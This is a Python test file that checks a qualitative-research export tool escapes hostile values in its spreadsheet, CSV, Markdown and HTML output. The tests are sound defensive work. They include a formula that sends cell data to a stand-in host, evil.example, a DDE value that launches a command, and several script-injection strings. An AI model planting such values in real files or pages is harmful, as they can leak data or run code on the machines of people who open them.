"""Hostile values in every field of an export (issues 21 and 22).

Each test builds its hostile input itself and checks the written file: no live
formula in any spreadsheet cell, no raw HTML or injected Markdown structure.
"""

from __future__ import annotations

import csv
import html.parser
from pathlib import Path

import pandas as pd
import pytest

from qualcode.codebook import Code, Codebook
from qualcode.export import export_extracts, export_matrices, export_tables

FORMULA = '=WEBSERVICE("http://evil.example/?q="&A2)'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
MD_CODE = "q` <img src=x onerror=alert(1)> `"


def _codebook(label: str = FORMULA, code: str = "harm") -> Codebook:
    return Codebook(
        [
            Code("theme", label, definition="+SUM(1)"),
            Code(code, "@child " + label, parent="theme", definition="-1+2"),
        ],
        name="hostile",
        version="1",
    )


def _codings(code: str = "harm", **extra) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "transcript_id": ["t1"],
            "start": [0],
            "end": [9],
            "code": [code],
            "coder": ["-AB"],
            "memo": ["@memo"],
            "text": ["We divert"],
            **extra,
        }
    )


def _live_cells(path: Path) -> list[str]:
    """Every cell of every sheet that a spreadsheet would run or misread."""
    from openpyxl import load_workbook

    bad = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for c in row:
                v = c.value
                if c.data_type == "f" or (
                    isinstance(v, str) and v.startswith(DANGEROUS)
                ):
                    bad.append(f"{ws.title}!{c.coordinate}={v!r}")
    return bad


def test_issue21_xlsx_index_sheet_names_are_neutralised(tmp_path):
    out = export_extracts(
        _codings(), tmp_path / "q.xlsx", codebook=_codebook(), context=0
    )
    assert _live_cells(out) == []


def test_issue21_xlsx_index_link_survives_quote_in_sheet_name(tmp_path):
    from openpyxl import load_workbook

    out = export_extracts(
        _codings(),
        tmp_path / "q.xlsx",
        codebook=_codebook("O'Brien's view"),
        context=0,
    )
    ws = load_workbook(out)["Index"]
    assert ws.cell(row=2, column=7).value == "O'Brien's view"
    assert ws.cell(row=2, column=7).hyperlink.target == "#'O''Brien''s view'!A1"


def test_issue21_xlsx_matrices_cells_are_neutralised(tmp_path):
    out = export_matrices(
        _codings(code="=cmd|' /C calc'!A0", rank=["+rank"]),
        tmp_path / "m.xlsx",
        by=("transcript", "rank"),
        unit="coding",
    )
    assert _live_cells(out) == []


def test_issue21_export_tables_every_cell_and_header_neutralised(tmp_path):
    df = pd.DataFrame({"=col": ["@x", "\tx", "\rx"], "ok": ["+1", "-1", "=1"]})
    out = export_tables({FORMULA: df}, tmp_path / "t.xlsx")
    assert _live_cells(out) == []


def test_issue21_export_tables_writes_formula_safe_csv(tmp_path):
    df = pd.DataFrame({"=col": ["@x", "\tx", "plain"], "n": [1, 2, 3]})
    out = export_tables(df, tmp_path / "t.csv")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    assert rows[0] == ["'=col", "n"] and rows[1] == ["'@x", "1"]


def test_issue21_export_tables_csv_refuses_several_tables(tmp_path):
    from qualcode.errors import InvalidInputError

    df = pd.DataFrame({"a": [1]})
    with pytest.raises(InvalidInputError, match=r"\[QC101\].*export_tables"):
        export_tables({"a": df, "b": df}, tmp_path / "t.csv")


def test_issue21_csv_quote_bank_headers_and_attributes_neutralised(tmp_path):
    out = export_extracts(
        _codings(**{"=rank": ["=1+1"]}),
        tmp_path / "q.csv",
        codebook=_codebook(),
        context=0,
    )
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert not [c for r in rows for c in r if c.startswith(DANGEROUS)]


def _md_html(text: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").render(text)


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.headings: list[str] = []
        self._h = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self._h = tag in ("h1", "h2", "h3", "h4", "h5", "h6")
        if self._h:
            self.headings.append("")

    def handle_endtag(self, tag):
        self._h = False

    def handle_data(self, data):
        if self._h:
            self.headings[-1] += data


def _parse(page: str) -> _Tags:
    p = _Tags()
    p.feed(page)
    return p


@pytest.mark.parametrize(
    "code",
    [MD_CODE, "x\n# Injected heading", "y\n\n===", "z\r\n<script>alert(1)</script>"],
)
def test_issue21_md_escapes_code_ids(code, tmp_path):
    pytest.importorskip("markdown_it")
    cb = Codebook(
        [Code("theme", "Theme"), Code("c1", "Label", parent="theme")],
        name="cb",
    )
    codings = _codings(code=code)
    out = export_extracts(codings, tmp_path / "q.md", codebook=cb, context=0)
    text = out.read_text(encoding="utf-8")
    page = _parse(_md_html(text))
    assert set(page.tags) <= {"h1", "h2", "h3", "p", "blockquote", "sub", "em", "code"}
    assert "img" not in page.tags and "script" not in page.tags
    assert len(page.headings) == 3  # title, theme, code: nothing injected


def test_issue21_md_escapes_labels_attribution_and_coders(tmp_path):
    pytest.importorskip("markdown_it")
    cb = Codebook(
        [
            Code("theme", "T\n# H <b>x</b>"),
            Code("harm", "L\n---\n<img src=x>", parent="theme", definition="d\n===\n"),
        ],
        name="cb",
    )
    codings = _codings(
        role=["<img src=y onerror=alert(1)>\n# role"],
        rank_band=["1. ranked"],
    )
    codings["coder"] = ["A <script>x</script>\n## B"]
    codings["text"] = ["We divert"]
    out = export_extracts(
        codings, tmp_path / "q.md", codebook=cb, context=0, title="<b>T</b>\n# t"
    )
    page = _parse(_md_html(out.read_text(encoding="utf-8")))
    assert set(page.tags) <= {"h1", "h2", "h3", "p", "blockquote", "sub", "em", "code"}
    assert len(page.headings) == 3


HTML_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "h1",
    "h2",
    "h3",
    "code",
    "p",
    "div",
    "blockquote",
    "span",
}


def test_issue21_html_escapes_every_field(tmp_path):
    cb = Codebook(
        [
            Code("theme", "<script>alert(1)</script>"),
            Code("harm", "<b>L</b>", parent="theme", definition="<i>d</i>"),
        ],
        name="cb",
    )
    codings = _codings(role=["<img src=y>"], speaker=["<u>P1</u>"])
    codings["coder"] = ["<svg onload=alert(1)>"]
    out = export_extracts(
        codings, tmp_path / "q.html", codebook=cb, context=0, title="<title>x"
    )
    assert set(_parse(out.read_text(encoding="utf-8")).tags) <= HTML_TAGS


def test_issue21_html_escapes_code_ids_outside_a_codebook(tmp_path):
    codings = _codings(code='h"><img src=x onerror=alert(1)>')
    out = export_extracts(codings, tmp_path / "q.html", context=0)
    assert set(_parse(out.read_text(encoding="utf-8")).tags) <= HTML_TAGS
